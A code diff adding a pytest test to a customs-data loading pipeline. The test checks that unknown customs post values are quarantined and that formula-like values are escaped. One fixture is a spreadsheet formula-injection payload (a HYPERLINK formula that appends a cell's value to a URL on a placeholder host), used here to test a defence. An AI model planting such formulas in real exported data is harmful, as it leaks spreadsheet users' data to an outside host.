@@ -194,3 +194,30 @@ def test_customs_windows_1257_and_decimal_comma(crimestat_home: Path) -> None:
     con.close()
     assert post == "Medininkų KP" and lat == pytest.approx(54.53)
     assert (float(quantity), float(value)) == (10000.0, 2500.5)
+
+
+def test_customs_post_outside_the_reference_list_is_quarantined(crimestat_home: Path) -> None:
+    """customs_post is a code list (seed reference/customs_posts), not free text: a formula
+    never loads, and its quarantined record and reason cannot run in a spreadsheet."""
+    formula = '=HYPERLINK("http://x/?"&A1,"post")'
+    write_customs(
+        crimestat_home / "landing",
+        "2022-03",
+        [VIOLATION, VIOLATION | {"violation_id": "V-2", "customs_post": "Vilniaus KP"},
+         VIOLATION | {"violation_id": "=V-3", "customs_post": formula}],
+        [SEIZURE],
+    )  # fmt: skip
+    report = load_partition("customs", "2022-03", load_settings())
+    assert (report.rows_loaded, report.quarantined_by_rule) == (2, {"unknown_code": 2})
+    q = quarantine_of(crimestat_home, "customs")
+    assert q[3] == ("customs_post", "unknown_code", "customs_post 'Vilniaus KP' is not in the "
+                    "code list (reference customs_posts)")  # fmt: skip
+    assert q[4][:2] == ("customs_post", "unknown_code")
+    con = duckdb.connect(str(crimestat_home / "warehouse.duckdb"), read_only=True)
+    try:
+        (record,) = con.execute("select record from raw.quarantine where _line = 4").fetchone()
+        posts = con.execute("select customs_post from raw.customs_violation_versions").fetchall()
+    finally:
+        con.close()
+    assert record.startswith("'=V-3;") and formula in record
+    assert posts == [("Medininkų KP",)]
